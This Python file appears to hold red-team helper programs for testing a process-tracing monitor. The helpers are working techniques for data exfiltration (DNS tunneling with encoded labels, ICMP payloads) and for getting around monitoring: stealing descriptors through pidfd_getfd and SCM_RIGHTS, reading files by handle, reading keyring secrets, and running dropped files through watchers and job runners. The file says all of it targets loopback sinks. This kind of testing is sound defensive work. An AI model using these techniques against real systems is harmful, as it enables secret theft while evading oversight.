#!/usr/bin/python3
"""rt.py: the red-team matrix's helper programs (test/redteam).

Each subcommand is one small, real piece of a technique: a sender that puts
bytes on a loopback socket, a DNS client, a helper that runs outside the
traced tree (started by the harness before polygraph) and does what the
tree asks, or a reader that reaches a file or a key without naming it.
Everything talks to loopback only, and only to the sinks and helpers the
harness started for the run. Python 3 standard library only.
"""
import ctypes
import os
import select
import socket
import struct
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

# x86_64 syscall numbers (the matrix runs on amd64).
SYS_KEYCTL = 250
SYS_PIDFD_OPEN = 434
SYS_PIDFD_GETFD = 438
SYS_NAME_TO_HANDLE_AT = 303
SYS_OPEN_BY_HANDLE_AT = 304
KEYCTL_SEARCH = 10
KEYCTL_READ = 11
KEY_SPEC_USER_KEYRING = -4


def die(msg):
    sys.stderr.write("rt.py: %s\n" % msg)
    sys.exit(1)


def syscall(*args):
    r = libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r < 0:
        e = ctypes.get_errno()
        die("syscall %d: %s" % (args[0], os.strerror(e)))
    return r


def stdin_bytes():
    return sys.stdin.buffer.read()


# --- senders --------------------------------------------------------------

def send_tcp(host, port):
    """stdin to a TCP connection; read what the sink answers."""
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.connect((host, int(port)))
    s.sendall(stdin_bytes())
    s.shutdown(socket.SHUT_WR)
    while s.recv(4096):
        pass


def send_udp(host, port):
    """stdin as datagrams from an unconnected socket (sendto)."""
    data = stdin_bytes()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(0, len(data), 512):
        s.sendto(data[i:i + 512], (host, int(port)))


def send_udp_connected(host, port):
    """stdin as datagrams from a connected UDP socket (send)."""
    data = stdin_bytes()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((host, int(port)))
    for i in range(0, len(data), 512):
        s.send(data[i:i + 512])


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def send_icmp(host):
    """stdin as the payload of ICMP echo requests (a raw socket: root)."""
    data = stdin_bytes()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for seq, i in enumerate(range(0, len(data), 256)):
        payload = data[i:i + 256]
        hdr = struct.pack("!BBHHH", 8, 0, 0, 0x5254, seq)
        pkt = struct.pack("!BBHHH", 8, 0, checksum(hdr + payload), 0x5254, seq) + payload
        s.sendto(pkt, (host, 0))


# --- DNS ------------------------------------------------------------------

def dns_query(name, qtype=1):
    q = struct.pack("!HHHHHH", os.getpid() & 0xFFFF, 0x0100, 1, 0, 0, 0)
    for label in name.strip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", qtype, 1)


def dns_ask(server, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(dns_query(name), (server, 53))
    try:
        a, _ = s.recvfrom(1500)
    except socket.timeout:
        return []
    # the answers the harness's resolver gives: A records after the question
    an = struct.unpack("!H", a[6:8])[0]
    i = 12
    while a[i]:
        i += 1 + a[i]
    i += 5
    out = []
    for _ in range(an):
        i += 2 + 8  # name pointer, type, class, ttl
        ln = struct.unpack("!H", a[i:i + 2])[0]
        rd = a[i + 2:i + 2 + ln]
        i += 2 + ln
        if ln == 4:
            out.append(socket.inet_ntoa(rd))
    return out


def resolve(server, name):
    """look name up at server and print its addresses."""
    print(" ".join(dns_ask(server, name)))


def dns_exfil(server, suffix):
    """stdin hex-encoded into the labels of queries under suffix."""
    data = stdin_bytes().hex()
    for n, i in enumerate(range(0, len(data), 60)):
        dns_ask(server, "%s.%d.%s" % (data[i:i + 60], n, suffix))


CONSONANTS = "bdfghklmnprstvwz"
VOWELS = "aeiou"


def dns_exfil_words(server, suffix):
    """stdin in labels that read like words: each byte is two consonants
    (its nibbles) and a vowel, seven bytes a label, no digits."""
    data = stdin_bytes()
    for n, i in enumerate(range(0, len(data), 7)):
        label = "".join(CONSONANTS[b >> 4] + CONSONANTS[b & 15] + VOWELS[b % 5] for b in data[i:i + 7])
        dns_ask(server, "%s.%d.%s" % (label, n, suffix))


def lookup_send(server, name, host, port):
    """look an allowed name up, then send stdin to another address: the
    lookup is all that names the connection."""
    data = stdin_bytes()
    dns_ask(server, name)
    s = socket.create_connection((host, int(port)))
    s.sendall(data)
    s.close()


# --- helpers outside the tree (started by the harness) ---------------------

def ready(path):
    """say the helper is listening: the harness waits for this file."""
    with open(path, "w") as f:
        f.write(str(os.getpid()))


def serve_unix(sock, readyfile):
    """a local daemon: a request names a file; it answers with its bytes,
    or, for "PATH PORT", sends them to 127.0.0.1:PORT itself."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(sock)
    s.listen(8)
    ready(readyfile)
    while True:
        c, _ = s.accept()
        req = c.recv(4096).decode().strip()
        path, _, port = req.partition(" ")
        try:
            data = open(os.path.expanduser(path), "rb").read()
        except OSError as e:
            data = ("error: %s\n" % e).encode()
        if port:
            t = socket.create_connection(("127.0.0.1", int(port)))
            t.sendall(data)
            t.close()
            c.sendall(b"sent\n")
        else:
            c.sendall(data)
        c.close()


def serve_dgram(sock, readyfile):
    """a local daemon on a Unix datagram socket: "PATH PORT" makes it send
    the file's bytes to 127.0.0.1:PORT."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.bind(sock)
    ready(readyfile)
    while True:
        req = s.recv(4096).decode().strip()
        path, _, port = req.partition(" ")
        try:
            data = open(os.path.expanduser(path), "rb").read()
        except OSError as e:
            data = ("error: %s\n" % e).encode()
        t = socket.create_connection(("127.0.0.1", int(port)))
        t.sendall(data)
        t.close()


def serve_scm(sock, readyfile):
    """a local daemon that opens the file a request names and passes the
    descriptor back (SCM_RIGHTS)."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(sock)
    s.listen(8)
    ready(readyfile)
    while True:
        c, _ = s.accept()
        path = c.recv(4096).decode().strip()
        try:
            fd = os.open(os.path.expanduser(path), os.O_RDONLY)
            socket.send_fds(c, [b"fd"], [fd])
            os.close(fd)
        except OSError as e:
            c.sendall(("error: %s\n" % e).encode())
        c.close()


def serve_fifo(req, resp, readyfile):
    """a local daemon on two FIFOs: a path written to req is answered with
    the file's bytes on resp."""
    for p in (req, resp):
        if not os.path.exists(p):
            os.mkfifo(p, 0o600)
    ready(readyfile)
    while True:
        with open(req) as f:
            path = f.read().strip()
        if not path:
            continue
        try:
            data = open(os.path.expanduser(path), "rb").read()
        except OSError as e:
            data = ("error: %s\n" % e).encode()
        with open(resp, "wb") as f:
            f.write(data)


def stat_key(path):
    try:
        st = os.stat(path)
    except OSError:
        return None
    return (st.st_ino, st.st_mtime_ns, st.st_size)


def watch(path, readyfile):
    """a watcher (nodemon, entr, a test watcher): whenever path changes,
    run it with sh."""
    last = stat_key(path)
    ready(readyfile)
    while True:
        cur = stat_key(path)
        if cur is not None and cur != last:
            subprocess.run(["/bin/sh", path])
        last = cur
        time.sleep(0.05)


def devserver(port, module, readyfile):
    """a development server that reloads module (a file of the project) on
    every request and answers with what its handle() returns."""
    import http.server
    import runpy

    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            try:
                body = str(runpy.run_path(module).get("handle", lambda: "")()).encode()
            except Exception as e:  # noqa: BLE001 - the server keeps serving
                body = ("error: %s" % e).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a):
            pass

    srv = http.server.HTTPServer(("127.0.0.1", int(port)), H)
    ready(readyfile)
    srv.serve_forever()


def hold(path, readyfile):
    """keep path open (a process that holds a secret open: an editor, an
    agent) and print the descriptor."""
    fd = os.open(os.path.expanduser(path), os.O_RDONLY)
    with open(readyfile, "w") as f:
        f.write("%d %d" % (os.getpid(), fd))
    while True:
        time.sleep(3600)


def env_holder(readyfile):
    """a process whose environment holds a secret (given by the harness)."""
    ready(readyfile)
    while True:
        time.sleep(3600)


def run_jobs(directory, suffix, readyfile):
    """a system job runner (cron, a CI runner): every 100 ms it executes
    each file of directory whose name ends in suffix, ignoring failures."""
    ready(readyfile)
    while True:
        for name in sorted(os.listdir(directory)):
            if name.endswith(suffix):
                try:
                    subprocess.run([os.path.join(directory, name)], timeout=30)
                except (OSError, subprocess.SubprocessError):
                    pass
        time.sleep(0.1)


# --- clients (run in the tree) --------------------------------------------

def ask_unix(sock, request):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(sock)
    s.sendall(request.encode() + b"\n")
    while True:
        b = s.recv(4096)
        if not b:
            break
        sys.stdout.buffer.write(b)


def ask_dgram(sock, request):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.sendto(request.encode() + b"\n", sock)


def recv_fd(sock, path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(sock)
    s.sendall(path.encode() + b"\n")
    msg, fds, _, _ = socket.recv_fds(s, 4096, 4)
    if not fds:
        die("no descriptor: %r" % msg)
    sys.stdout.buffer.write(os.read(fds[0], 1 << 20))


def take_fd(readyfile):
    """pidfd_getfd: copy the descriptor another process holds, and read it."""
    pid, fd = map(int, open(readyfile).read().split())
    pidfd = syscall(SYS_PIDFD_OPEN, pid, 0)
    nfd = syscall(SYS_PIDFD_GETFD, pidfd, fd, 0)
    os.lseek(nfd, 0, os.SEEK_SET)
    sys.stdout.buffer.write(os.read(nfd, 1 << 20))


def dirfd_read(directory, name):
    """openat relative to a descriptor of the directory."""
    d = os.open(directory, os.O_PATH | os.O_DIRECTORY)
    fd = os.open(name, os.O_RDONLY, dir_fd=d)
    sys.stdout.buffer.write(os.read(fd, 1 << 20))


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


def handle_save(path, out):
    """name_to_handle_at: save a file's handle (done before the session,
    like a handle leaked earlier)."""
    fh = FileHandle()
    fh.handle_bytes = 128
    mnt = ctypes.c_int()
    syscall(SYS_NAME_TO_HANDLE_AT, -100, ctypes.c_char_p(path.encode()), ctypes.byref(fh), ctypes.byref(mnt), 0)
    with open(out, "wb") as f:
        f.write(bytes(fh))


def handle_open(saved):
    """open_by_handle_at with a saved handle: an open that names no path
    (CAP_DAC_READ_SEARCH)."""
    fh = FileHandle.from_buffer_copy(open(saved, "rb").read())
    mfd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    fd = syscall(SYS_OPEN_BY_HANDLE_AT, mfd, ctypes.byref(fh), os.O_RDONLY)
    sys.stdout.buffer.write(os.read(fd, 1 << 20))


def key_read(description):
    """keyctl(2) without the keyctl program: search the user keyring and
    read the key's payload."""
    kid = syscall(SYS_KEYCTL, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, ctypes.c_char_p(b"user"),
                  ctypes.c_char_p(description.encode()), 0)
    buf = ctypes.create_string_buffer(4096)
    n = syscall(SYS_KEYCTL, KEYCTL_READ, kid, buf, 4096)
    sys.stdout.buffer.write(buf.raw[:n])


def wait_for(path, seconds="5"):
    """wait until path exists (an outside helper's result)."""
    end = time.time() + float(seconds)
    while time.time() < end:
        if os.path.exists(path):
            return
        time.sleep(0.05)
    die("waited %ss for %s" % (seconds, path))


COMMANDS = {
    "send-tcp": send_tcp, "send-udp": send_udp, "send-udp-connected": send_udp_connected,
    "send-icmp": send_icmp, "resolve": resolve, "dns-exfil": dns_exfil,
    "serve-unix": serve_unix, "serve-dgram": serve_dgram, "serve-scm": serve_scm,
    "serve-fifo": serve_fifo, "watch": watch, "devserver": devserver, "hold": hold,
    "env-holder": env_holder,
    "ask-unix": ask_unix, "ask-dgram": ask_dgram, "recv-fd": recv_fd, "take-fd": take_fd,
    "dirfd-read": dirfd_read, "handle-save": handle_save, "handle-open": handle_open,
    "key-read": key_read, "dns-exfil-words": dns_exfil_words, "lookup-send": lookup_send,
    "run-jobs": run_jobs,
    "wait-for": wait_for,
}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in COMMANDS:
        die("usage: rt.py %s ARGS..." % "|".join(sorted(COMMANDS)))
    COMMANDS[sys.argv[1]](*sys.argv[2:])
